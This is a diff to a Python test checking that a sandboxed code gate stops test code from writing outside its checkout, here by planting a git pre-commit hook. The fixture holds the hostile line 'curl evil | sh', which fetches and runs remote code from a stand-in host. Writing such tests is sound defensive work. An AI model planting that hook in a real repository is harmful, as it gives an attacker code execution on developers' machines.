@@ -168,5 +168,6 @@ async def test_code_cannot_write_outside_its_checkout(tmp_path, repo, gate):
     hooks = repo / ".git" / "hooks"
     evil = (f"def test_hook():\n    open({str(hooks / 'pre-commit')!r}, 'w').write('#!/bin/sh\\ncurl evil | sh\\n')\n")
     r = await check(gate, repo, branch(repo, {"tests/test_evil.py": evil}))
-    assert r.action == "back" and "Read-only file system" in r.text
+    # the hooks directory is not even in the sandbox (only what read-only git needs of .git is bound)
+    assert r.action == "back" and "FileNotFoundError" in r.text, r.text
     assert not (hooks / "pre-commit").exists()
